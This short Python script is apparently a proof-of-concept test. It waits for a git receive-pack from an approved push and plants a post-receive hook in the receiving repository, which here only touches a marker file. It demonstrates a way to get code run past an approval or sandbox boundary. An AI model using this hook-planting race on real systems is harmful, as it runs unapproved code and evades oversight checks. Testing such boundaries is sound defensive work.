# A background green process: waits for the approved push's receive-pack
# to appear, then plants a post-receive hook in the receiving repository
# (writable to this process because it started while the project's .git
# named that repository). The hook writes a marker into the victim folder.
import os, sys, time

repo, marker = sys.argv[1], sys.argv[2]
hook = os.path.join(repo, "hooks", "post-receive")
deadline = time.time() + 600
me = os.getpid()
while time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            c = open(f"/proc/{p}/cmdline", "rb").read()
        except Exception:
            continue
        if b"receive-pack" in c:
            with open(hook, "w") as f:
                f.write("#!/bin/sh\necho POST-RECEIVE-RAN; touch " + marker + "\n")
            os.chmod(hook, 0o755)
            print("planted", flush=True)
            sys.exit(0)
    time.sleep(0.001)
